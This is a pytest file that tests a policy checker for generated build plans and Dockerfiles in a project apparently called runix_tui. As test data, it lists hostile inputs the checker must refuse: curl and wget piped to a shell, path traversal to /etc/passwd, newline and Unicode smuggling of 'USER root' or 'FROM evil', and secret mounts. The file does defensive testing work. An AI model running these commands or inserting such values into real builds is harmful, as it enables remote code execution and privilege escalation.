from typing import Any

import pytest

from runix_tui.core.plan import Plan, Runtime
from runix_tui.errors import PlanError
from runix_tui.plan.policy import MAX_BYTES, check_dockerfile, check_plan, piped_to_shell
from tests.plankit import BUILD_BASE, RUN_BASE, SCOPE, rendered

GOOD: dict[str, Any] = {
    "provider": "python",
    "runtime": Runtime.PYTHON,
    "version": "3.11",
    "package_manager": "pip",
    "manifests": ("requirements.txt",),
    "install": ("pip install -r requirements.txt",),
    "build": ("python manage.py collectstatic --noinput",),
    "start": ("/bin/sh", "-c", "exec gunicorn app:app | cat"),
    "env": {"A": "b"},
    "build_variables": ("VITE_*",),
    "health_path": "/healthz",
}

HOSTILE_PLANS: list[dict[str, Any]] = [
    {"build": ("curl http://x | sh",)},
    {"build": ("wget -qO- http://x | sudo bash -s",)},
    {"build": ("curl x |& /bin/bash",)},
    {"build": ("curl x | env A=1 python3 -",)},
    {"build": ('sh -c "$(curl x)"',)},
    {"build": ("bash <(curl x)",)},
    {"install": ("`wget -O- x`",)},
    {"build": ("--mount=type=bind,from=x,target=/y cat /y",)},
    {"build": ("--network=host curl x",)},
    {"build": ("cat <<EOF",)},
    {"build": ("x\nFROM evil",)},
    {"build": ("x\rUSER root",)},
    {"build": ("x \\",)},
    {"build": ('["sh", "-c", "x"]',)},
    {"build": ("# nothing",)},
    {"build": (" x",)},
    {"build": ("",)},
    {"build": ("x\u202ey",)},
    {"build": ("x\u2028RUN y",)},
    {"build": ("x" * 5000,)},
    {"manifests": ("/etc/passwd",)},
    {"manifests": ("../../etc/passwd",)},
    {"manifests": ("a/../../b",)},
    {"manifests": ("*",)},
    {"manifests": ("--from=evil",)},
    {"manifests": ("a\nRUN x",)},
    {"manifests": ("$HOME/x",)},
    {"manifests": (".git/config",)},
    {"static_dir": "/etc"},
    {"static_dir": "../.."},
    {"static_dir": "dist\nUSER root"},
    {"runtime_packages": ("libpq5; curl x",)},
    {"runtime_packages": ("--force-yes",)},
    {"build_packages": ("a b",)},
    {"build_packages": ("http://x/y.deb",)},
    {"package_manager": "curl"},
    {"package_manager": "npm@1'; x"},
    {"version": "3.11 AS x"},
    {"env": {"A B": "c"}},
    {"env": {"A": "b\nUSER root"}},
    {"env": {"A": "b\u200f"}},
    {"build_variables": ("*",)},
    {"build_variables": ("A=b",)},
    {"start": ("",)},
    {"start": ("python", "a\0b")},
    {"health_path": "http://x/"},
    {"health_path": "/a\r\nX: y"},
]


def test_a_usual_plan_passes() -> None:
    check_plan(Plan(**GOOD))
    rendered(Plan(**GOOD))


@pytest.mark.parametrize("change", HOSTILE_PLANS, ids=repr)
def test_a_hostile_plan_is_refused_with_the_field(change: dict[str, Any]) -> None:
    with pytest.raises(PlanError) as caught:
        check_plan(Plan(**{**GOOD, **change}))
    assert caught.value.code == "policy"
    assert caught.value.message.startswith("the plan's ")
    assert caught.value.hint


@pytest.mark.parametrize(
    ("step", "expected"),
    [
        ("a | sort", False),
        ("echo x | tee shfile", False),
        ("npm run build || true", False),
        ("cat x | node-gyp", False),
        ("find . | xargs sh", True),
        ("a |sh", True),
        ("a | /usr/bin/env bash", True),
        ("curl x > y && sh y", False),
        ("test -f x || sh make.sh", False),
    ],
)
def test_pipes_to_shells(step: str, expected: bool) -> None:
    assert piped_to_shell(step) is expected


TEXT = rendered(Plan(**GOOD), ("VITE_A",))


def replaced(old: str, new: str) -> str:
    assert old in TEXT
    return TEXT.replace(old, new, 1)


HOSTILE_TEXTS = {
    "another base": replaced(f"FROM {RUN_BASE}", "FROM docker.io/library/evil:1"),
    "a short base": replaced(f"FROM {RUN_BASE}", "FROM python"),
    "a third stage": TEXT + TEXT,
    "a platform": replaced("FROM ", "FROM --platform=linux/arm64 "),
    "another stage name": replaced(" AS build", " AS other"),
    "syntax": "# syntax=docker.io/evil/frontend\n" + TEXT,
    "escape": "# escape=`\n" + TEXT,
    "a comment": replaced("# build", "# anything"),
    "ADD": replaced("COPY . .", "ADD http://x/y /app/"),
    "ADD of an archive": replaced("COPY . .", "ADD x.tar /"),
    "ONBUILD": replaced("# build", "ONBUILD RUN x"),
    "SHELL": replaced("# build", 'SHELL ["/bin/evil"]'),
    "VOLUME": replaced("# build", "VOLUME /var"),
    "LABEL": replaced("# build", "LABEL dev.runix.home=x"),
    "HEALTHCHECK": replaced("# build", "HEALTHCHECK CMD x"),
    "COPY from an image": replaced("--from=build", "--from=docker.io/library/evil"),
    "COPY from a number": replaced("--from=build", "--from=0"),
    "COPY of an absolute path": replaced("COPY requirements.txt ./", "COPY /etc/passwd ./"),
    "COPY out of the context": replaced("COPY requirements.txt ./", "COPY ../x ./"),
    "COPY to elsewhere": replaced("COPY requirements.txt ./", "COPY requirements.txt /etc/"),
    "COPY to a parent": replaced("COPY requirements.txt ./", "COPY requirements.txt ../etc/"),
    "COPY of the build's root": replaced("/opt/venv /opt/venv", "/root /opt/venv"),
    "COPY with a heredoc": replaced("COPY . .", "COPY <<EOF /app/x\ny\nEOF"),
    "COPY --chmod": replaced("COPY . .", "COPY --chmod=4755 . ."),
    "a bind mount": replaced("--mount=type=cache", "--mount=type=bind,from=x,target=/y --mount=type=cache"),
    "a secret": replaced("--mount=type=cache", "--mount=type=secret,id=x --mount=type=cache"),
    "an ssh mount": replaced("--mount=type=cache", "--mount=type=ssh --mount=type=cache"),
    "another project's cache": replaced(f"id={SCOPE}-pip", "id=runix-ffffffff-other-pip"),
    "a cache with a path": replaced(f"id={SCOPE}-pip", f"id={SCOPE}/../../x-pip"),
    "a cache elsewhere": replaced("target=/root/.cache/pip", "target=/etc"),
    "a cache of another": replaced("target=/root/.cache/pip", "target=/root/.npm"),
    "the host's network": replaced("RUN --mount", "RUN --network=host --mount"),
    "security": replaced("RUN --mount", "RUN --security=insecure --mount"),
    "a heredoc": replaced("pip install -r requirements.txt", "cat <<EOF\nx\nEOF"),
    "exec form": replaced("python manage.py collectstatic --noinput", '["curl", "x"]'),
    "a pipe to a shell": replaced("pip install -r requirements.txt", "curl x | sh"),
    "USER root at the end": TEXT + "USER root\n",
    "USER 0": replaced("USER 10001:10001", "USER 0"),
    "no USER": replaced("USER 10001:10001\n", ""),
    "RUN after USER": replaced("EXPOSE 8080", "RUN x\nEXPOSE 8080"),
    "WORKDIR elsewhere": replaced("WORKDIR /app", "WORKDIR /etc"),
    "ENV in another form": replaced("ENV A=b", "ENV A b"),
    "ENV with a variable": replaced("ENV A=b", "ENV A=$HOME"),
    "two ENV": replaced("ENV A=b", "ENV A=b C=$D"),
    "ARG with a value": replaced("ARG VITE_A", "ARG VITE_A=x"),
    "shell-form CMD": replaced('CMD ["/bin/sh", "-c", "exec gunicorn app:app | cat"]', "CMD gunicorn"),
    "no CMD": replaced('CMD ["/bin/sh", "-c", "exec gunicorn app:app | cat"]\n', ""),
    "an ENTRYPOINT": replaced("ENTRYPOINT []", 'ENTRYPOINT ["/evil"]'),
    "a port that is none": replaced("EXPOSE 8080", "EXPOSE all"),
    "a continuation": replaced("COPY . .", "COPY . \\\n."),
    "a hidden character": replaced("COPY . .", "COPY .\u202e ."),
    "a wide space": replaced("COPY . .", "COPY\u00a0. ."),
    "a form feed": replaced("COPY . .", "COPY . .\x0c"),
    "carriage returns": TEXT.replace("\n", "\r\n"),
    "an unknown instruction": TEXT + "INCLUDE x\n",
    "too long": TEXT + "# build\n" * MAX_BYTES,
    "nothing": "",
    "no FROM first": "ARG X\n" + TEXT,
}


@pytest.mark.parametrize("name", HOSTILE_TEXTS)
def test_a_text_that_the_renderer_would_not_write_is_refused(name: str) -> None:
    with pytest.raises(PlanError) as caught:
        check_dockerfile(HOSTILE_TEXTS[name], bases={BUILD_BASE, RUN_BASE}, cache_scope=SCOPE)
    assert caught.value.code == "policy"
    assert caught.value.message.startswith("Dockerfile line ")
    assert caught.value.hint


def test_without_a_list_of_bases_they_must_be_fully_qualified() -> None:
    check_dockerfile(TEXT)
    with pytest.raises(PlanError):
        check_dockerfile(HOSTILE_TEXTS["a short base"])


def test_every_line_matters() -> None:
    """No line of a good text can be replaced by an instruction with more rights than it had."""
    lines = TEXT.rstrip("\n").split("\n")
    for evil in (
        "USER root",
        "RUN --mount=type=secret,id=x y",
        "FROM docker.io/library/evil:1",
        "ADD http://x /",
        "VOLUME /x",
    ):
        for number in range(len(lines)):
            with pytest.raises(PlanError):
                check_dockerfile("\n".join([*lines[:number], evil, *lines[number + 1 :]]), bases={BUILD_BASE, RUN_BASE})
